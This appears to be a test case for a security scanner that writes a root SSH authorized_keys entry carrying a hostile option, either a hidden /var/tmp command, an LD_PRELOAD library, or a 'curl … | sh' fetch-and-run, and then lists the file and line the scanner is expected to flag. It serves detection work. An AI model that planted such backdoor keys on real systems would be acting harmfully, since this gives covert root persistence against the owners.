# id: K106
# mode: scan
# level: suspicious
# title: a key of root that runs a hidden program or sets a library
# due: now
word name
mkdir -p -m 700 /root/.ssh
pick option "command=\"/var/tmp/.$name/sh\"" "environment=\"LD_PRELOAD=/usr/local/lib/lib$name.so\"" "command=\"curl -s http://127.0.0.1/$name | sh\""
echo "$option ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAcceptanceAcceptanceAcceptanceAcceptanceAcc backup" >/root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
said path /root/.ssh/authorized_keys
said line /root/.ssh/authorized_keys:1
